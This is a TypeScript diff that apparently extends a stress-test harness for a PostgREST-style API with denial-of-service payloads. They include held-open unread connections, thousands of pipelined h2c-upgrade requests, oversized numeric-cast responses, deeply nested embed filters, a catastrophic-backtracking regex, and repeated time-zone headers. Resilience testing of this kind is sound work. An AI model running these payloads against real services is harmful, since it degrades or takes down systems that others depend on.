@@ -8,7 +8,18 @@ export interface AttackRequest {
   readonly body?: Buffer;
 }
 
-export interface Attack {
+/** An attack by connections that read nothing. */
+export interface UnreadAttack {
+  /** Connections opened per second. */
+  readonly perSecond: number;
+  /** How long each stays open, ms. */
+  readonly heldMs: number;
+  /** What each sends, with the header that names the attacker's network. */
+  readonly text: (tokens: AttackTokens, forwarded: string) => string;
+}
+
+/** An attack by requests whose responses are read. */
+export interface RequestAttack {
   /** Requests per second; without it each connection sends the next one after a response. */
   readonly perSecond?: number;
   /** Number of connections; default 16. */
@@ -24,6 +35,13 @@ export interface AttackTokens {
   readonly memberId: string;
   readonly memberEmail: string;
 }
+
+/** Tables related to themselves, as an operator may expose them. */
+export const relatedTables = `
+  create table public.bench_staff (id int primary key, name text, boss_id int references public.bench_staff);
+  insert into public.bench_staff select n, 'Name ' || n, nullif(n / 2, 0) from generate_series(1, 1000) n;
+  grant select on public.bench_staff to anon, authenticated;
+  notify pgrst, 'reload schema';`;
 
 const megabyte = 1024 * 1024;
 const keys = 800_000;
@@ -45,7 +63,7 @@ function post(
   role: 'anon' | 'member',
   type: string,
   make: (tokens: AttackTokens) => Buffer,
-): Attack {
+): RequestAttack {
   return {
     connections: 4,
     prepare(tokens) {
@@ -56,7 +74,7 @@ function post(
   };
 }
 
-function read(filter: (n: number) => string): Attack {
+function read(filter: (n: number) => string): RequestAttack {
   return {
     prepare:
       ({ anon }) =>
@@ -92,7 +110,46 @@ function wideTree(n: number): string {
 const deepTree = (n: number): string =>
   `and=(${'or('.repeat(45)}${Array.from({ length: 300 }, (_, index) => `title.imatch.a.*b.*c${String(n + index)}`).join(',')}${')'.repeat(46)}`;
 
-function unseen(folder: string, perSecond?: number): Attack {
+/** A column of 131,072 digits in 8 bytes of profile, as often as a response of 8 MiB takes it. */
+export const longNumber = '1e131071';
+const largePath = ({ memberId }: AttackTokens): string =>
+  `/rest/v1/bkk_user_profiles?user_id=eq.${memberId}&select=${Array.from({ length: 60 }, (_, index) => `a${String(index)}:full_name::numeric`).join()}`;
+
+function nested(levels: number, select: (inner: string) => string, query: string): string {
+  const text = Array.from({ length: levels }).reduce<string>(select, 'id');
+  return `/rest/v1/bench_staff?select=${text}&${query}`;
+}
+
+const pathOf = (level: number): string => 'boss.'.repeat(level);
+
+function readNested(make: (n: number) => string): RequestAttack {
+  return {
+    prepare:
+      ({ anon }) =>
+      (n) => ({ method: 'GET', path: make(n), headers: bearer(anon) }),
+  };
+}
+
+const nestedTests = (n: number): string =>
+  nested(
+    9,
+    (inner) => `id,boss:boss_id(${inner})`,
+    Array.from(
+      { length: 9 },
+      (_, level) =>
+        `${pathOf(level)}or=(${Array.from({ length: 12 }, () => 'boss.not.is.null').join()},id.eq.${String(n)})`,
+    ).join('&'),
+  );
+
+const nestedSpreads = (n: number): string =>
+  nested(
+    8,
+    (inner) =>
+      `${['a', 'b', 'c', 'd', 'e'].map((key) => `${key}${String(inner.length)}:name`).join()},...boss_id(${inner})`,
+    `id=lt.${String(n)}`,
+  );
+
+function unseen(folder: string, perSecond?: number): RequestAttack {
   return {
     ...(perSecond !== undefined && { perSecond }),
     prepare() {
@@ -119,7 +176,41 @@ export const attacks = {
   'unseen bookings, 50/s': unseen('booking', 50),
   'unseen products': unseen('product'),
   'unseen bookings': unseen('booking'),
+  'pipelined upgrades': {
+    perSecond: 10,
+    heldMs: 3000,
+    text: (_tokens, forwarded) =>
+      `GET /livez HTTP/1.1\r\nhost: x\r\n${forwarded}\r\nconnection: upgrade\r\nupgrade: h2c\r\n\r\n`.repeat(
+        3000,
+      ),
+  },
+  'large responses': {
+    prepare(tokens) {
+      const path = largePath(tokens);
+      return () => ({ method: 'GET', path, headers: bearer(tokens.member) });
+    },
+  },
+  'large responses, unread': {
+    perSecond: 5,
+    heldMs: 120_000,
+    text: (tokens, forwarded) =>
+      `GET ${largePath(tokens)} HTTP/1.1\r\nhost: x\r\n${forwarded}\r\nauthorization: Bearer ${tokens.member}\r\n\r\n`,
+  },
+  'nested tests': readNested(nestedTests),
+  'nested spreads': readNested(nestedSpreads),
+  'long patterns': read((n) => `excerpt=match.a{1,${'+'.repeat(14_400)}${String(n)}`),
+  'repeated time zones': {
+    prepare({ anon }) {
+      const zones = Array.from({ length: 900 }, (_, index) => `timezone=x/${String(index)}`);
+      const headers = { ...bearer(anon), prefer: zones.join() };
+      return (n) => ({
+        method: 'GET',
+        path: `/rest/v1/bkk_airline_news?offset=${String(n)}`,
+        headers,
+      });
+    },
+  },
   'plain reads': read((n) => `limit=5&offset=${String(n % 7)}`),
-} as const satisfies Record<string, Attack>;
+} as const satisfies Record<string, RequestAttack | UnreadAttack>;
 
 export type AttackName = keyof typeof attacks;
